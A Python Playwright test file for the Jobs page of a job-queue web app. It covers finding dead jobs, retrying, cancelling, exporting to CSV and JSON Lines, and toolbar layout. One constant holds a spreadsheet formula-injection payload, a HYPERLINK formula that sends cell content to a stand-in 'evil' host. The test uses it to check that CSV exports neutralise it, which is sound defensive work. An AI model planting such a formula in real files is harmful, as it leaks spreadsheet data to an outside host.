"""The Jobs page in a real browser, before a whole local instance: what is asked for there really happens."""

import contextlib
import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Download, Locator, Page, ViewportSize, expect
from playwright.sync_api import TimeoutError as PlaywrightTimeout

from greenscale_jobs import JobClient, JobState
from greenscale_testing.browser import DESKTOP, PHONE, InstanceWithPage, Visit

Open = Callable[..., Visit]

FORMULA = '=HYPERLINK("http://evil/?"&A1)'
CLICKS = 3

SCREENS = [
    pytest.param("light", DESKTOP, id="light"),
    pytest.param("dark", DESKTOP, id="dark"),
    pytest.param("light", PHONE, id="phone"),
]


@pytest.fixture
def client(instance: InstanceWithPage) -> Iterator[JobClient]:
    """The queue of the instance, with nothing dead in it from another test."""
    with JobClient(instance.address) as client:
        ids = [job.id for job in client.jobs(JobState.DEAD, limit=100).jobs]
        client.redrive(ids)
        for job_id in ids:
            client.result(job_id)
        yield client


def cell(page: Page, text: str) -> Locator:
    """Return a cell of the table as a screen reader gets it, within the canvas that the table is drawn on."""
    return page.locator("canvas td").filter(has_text=text)


def open_row(page: Page, number: int) -> None:
    """Click into the prompt of a row, counted from 0; again where the table was redrawn at that moment."""
    for _ in range(CLICKS):
        page.get_by_test_id("stDataFrame").click(position={"x": 240, "y": 52 + 35 * number})
        with contextlib.suppress(PlaywrightTimeout):
            page.wait_for_url("**/jobs?*job=*", timeout=5000)
            return
    raise AssertionError(f"row {number} does not open")


def done(client: JobClient, *prompts: str) -> list[str]:
    ids = [client.submit(prompt) for prompt in prompts]
    for job_id in ids:
        client.result(job_id)
    return ids


@pytest.mark.parametrize(("scheme", "viewport"), SCREENS)
def test_a_dead_job_is_found_and_tells_every_attempt_that_failed(
    visit: Open, instance: InstanceWithPage, client: JobClient, scheme: str, viewport: ViewportSize
) -> None:
    done(client, "Why is the sky blue?", "Translate: good morning", "Summarise the minutes of Monday")
    job_id, _ = instance.bury("Summarise this report of 300 pages", "Summarise that one too")
    opened = visit("/jobs", viewport=viewport, color_scheme=scheme)
    page = opened.page
    expect(cell(page, "Translate: good morning").first).to_be_attached()
    opened.picture(f"jobs-{scheme}-{viewport['width']}")
    page.get_by_role("radiogroup").get_by_text("Dead").click()
    expect(cell(page, "Translate: good morning")).to_have_count(0)
    page.get_by_role("textbox", name="Search").fill("300 PAGES")
    page.get_by_role("textbox", name="Search").press("Enter")
    expect(page.get_by_text("1 to 1 found, searched 2 of 2")).to_be_visible()
    expect(cell(page, "Summarise that one too")).to_have_count(0)
    open_row(page, 0)

    expect(page.get_by_text(f"{job_id} Dead")).to_be_visible()
    for moment in (
        "Attempt 1 failed, RateLimited: the model's API is busy.",
        "Attempt 2 failed, TooLong: the prompt has 9321 tokens; the model takes 8192.",
    ):
        expect(page.get_by_text(moment)).to_be_visible()
    page.get_by_text("Timeline", exact=True).scroll_into_view_if_needed()
    opened.picture(f"jobs-dead-{scheme}-{viewport['width']}")
    assert f"job={job_id}" in page.url
    assert page.evaluate("document.querySelector('.stMain').scrollWidth") <= viewport["width"]


def test_a_dead_job_is_retried_and_answered(visit: Open, instance: InstanceWithPage, client: JobClient) -> None:
    (job_id,) = instance.bury("say it again")
    page = visit(f"/jobs?job={job_id}").page
    page.get_by_role("button", name="Retry", exact=True).click()

    expect(page.get_by_text(f"{job_id} Done")).to_be_visible()
    expect(page.get_by_text("Answer", exact=True)).to_be_visible()
    expect(page.get_by_role("button", name="Retry", exact=True)).to_have_count(0)
    assert client.job(job_id).result == "say it again"


def test_a_running_job_is_cancelled(visit: Open, client: JobClient) -> None:
    job_id = client.submit("word " * 400)
    page = visit(f"/jobs?job={job_id}").page
    expect(page.get_by_text(f"{job_id} Running")).to_be_visible()
    page.get_by_role("button", name="Cancel").click()

    expect(page.get_by_text(f"{job_id} Cancelled")).to_be_visible()
    assert client.job(job_id).state is JobState.CANCELLED


def test_all_dead_jobs_run_again_once_that_is_confirmed(
    visit: Open, instance: InstanceWithPage, client: JobClient
) -> None:
    ids = instance.bury("one", "two", "three")
    opened = visit("/jobs?state=Dead")
    page = opened.page
    dialog = page.get_by_role("dialog")
    page.get_by_role("button", name="Retry 3 failed jobs").click()
    expect(dialog).to_contain_text("3 failed jobs of this workload will go back to the queue")
    opened.picture("jobs-redrive-light")
    page.keyboard.press("Escape")
    expect(dialog).to_have_count(0)
    assert client.stats().dead == 3

    page.get_by_role("button", name="Retry 3 failed jobs").click()
    dialog.get_by_role("button", name="Retry 3 jobs").click()
    expect(dialog).to_contain_text("3 jobs retried.")
    expect(dialog.get_by_role("button", name="Retry 3 jobs")).to_have_count(0)
    opened.picture("jobs-redriven-light")

    assert [client.result(job_id).result for job_id in ids] == ["one", "two", "three"]
    page.keyboard.press("Escape")
    expect(page.get_by_text("No jobs match this filter.")).to_be_visible()


def export(page: Page, form: str) -> bytes:
    """Have a file made of what is listed, and return it."""
    page.get_by_role("button", name="Export").click()
    page.get_by_role("menuitem", name=form).or_(page.get_by_role("option", name=form)).click()
    with page.expect_download() as download:
        page.get_by_role("dialog").get_by_role("button", name=f"Download {form}").click()
    made: Download = download.value
    assert made.suggested_filename.startswith("assistant-jobs.") or made.suggested_filename.startswith("jobs-jobs.")
    page.keyboard.press("Escape")
    return Path(made.path()).read_bytes()


def test_what_is_listed_is_exported_and_is_no_formula(visit: Open, client: JobClient) -> None:
    done(client, FORMULA, "another")
    opened = visit("/jobs?text=HYPERLINK")
    page = opened.page
    expect(page.get_by_text(re.compile(r"1 to 1 found"))).to_be_visible()
    table, lines = export(page, "CSV"), export(page, "JSON Lines")

    (row,) = csv.DictReader(io.StringIO(table.decode("utf-8-sig"), newline=""))
    assert (row["prompt"], row["answer"], row["state"]) == (f"'{FORMULA}", f"'{FORMULA}", "done")
    (exported,) = map(json.loads, lines.splitlines())
    assert (exported["prompt"], exported["result"]) == (FORMULA, FORMULA)


def test_a_tables_own_toolbar_offers_no_other_export(visit: Open, client: JobClient) -> None:
    """Streamlit's leaves formulas as they are, and has one page of the jobs only."""
    done(client, FORMULA)
    page = visit("/jobs").page
    expect(cell(page, FORMULA).first).to_be_attached()
    page.get_by_test_id("stDataFrame").hover()

    expect(page.get_by_role("button", name="Fullscreen").first).to_be_visible()
    expect(page.get_by_role("button", name=re.compile("Download|CSV"))).to_have_count(0)


@pytest.mark.usefixtures("client")
@pytest.mark.parametrize("viewport", [pytest.param(DESKTOP, id="desktop"), pytest.param(PHONE, id="phone")])
def test_a_tables_own_toolbar_covers_nothing(visit: Open, instance: InstanceWithPage, viewport: ViewportSize) -> None:
    """It comes up above the table's right end, widest where a job is open: on a phone it covered some of Export."""
    job_id, _ = instance.bury("the first of two", "the second")
    opened = visit(f"/jobs?job={job_id}", viewport=viewport)
    page = opened.page
    expect(cell(page, "the second").first).to_be_attached()
    page.get_by_test_id("stDataFrame").hover()
    toolbar = page.get_by_test_id("stElementToolbar").filter(has=page.get_by_role("button", name="Fullscreen"))
    expect(toolbar.get_by_role("button")).to_have_count(4)
    buttons = toolbar.get_by_role("button").all()
    opened.picture(f"jobs-toolbar-{viewport['width']}")

    for covered in (
        page.get_by_role("button", name="Export"),
        page.get_by_role("button", name="Retry 2 failed jobs"),
        page.get_by_text(re.compile(r"^\d+ running · ")),
        page.get_by_text(re.compile(r"^1 to \d+ of \d+$")),
    ):
        expect(covered).to_be_visible()
        assert not any(overlap(covered, button) for button in buttons), covered


def overlap(one: Locator, other: Locator) -> bool:
    """Return whether any of one is where any of the other is."""
    a, b = one.bounding_box(), other.bounding_box()
    assert a is not None
    assert b is not None
    across = a["x"] < b["x"] + b["width"] and b["x"] < a["x"] + a["width"]
    return across and a["y"] < b["y"] + b["height"] and b["y"] < a["y"] + a["height"]


def test_what_one_tab_does_the_other_sees_and_each_keeps_what_is_typed(
    visit: Open, instance: InstanceWithPage, client: JobClient
) -> None:
    (job_id,) = instance.bury("opened by two")
    one, other = visit(f"/jobs?job={job_id}").page, visit(f"/jobs?job={job_id}&state=Dead").page
    expect(other.get_by_text(f"{job_id} Dead")).to_be_visible()
    other.get_by_role("textbox", name="Search").fill("opened by")
    one.get_by_role("button", name="Retry", exact=True).click()

    expect(other.get_by_text("No jobs match this filter.")).to_be_visible()
    expect(other.get_by_role("textbox", name="Search")).to_have_value("opened by")
    assert client.result(job_id).result == "opened by two"


def test_a_job_that_is_not_there_is_said_to_be_unknown_beside_those_that_are(visit: Open, client: JobClient) -> None:
    done(client, "this one is there")
    opened = visit("/jobs?job=nonsense")

    expect(opened.page.get_by_text("No job has the id nonsense: it never existed here")).to_be_visible()
    expect(cell(opened.page, "this one is there").first).to_be_attached()
    opened.picture("jobs-unknown-light")
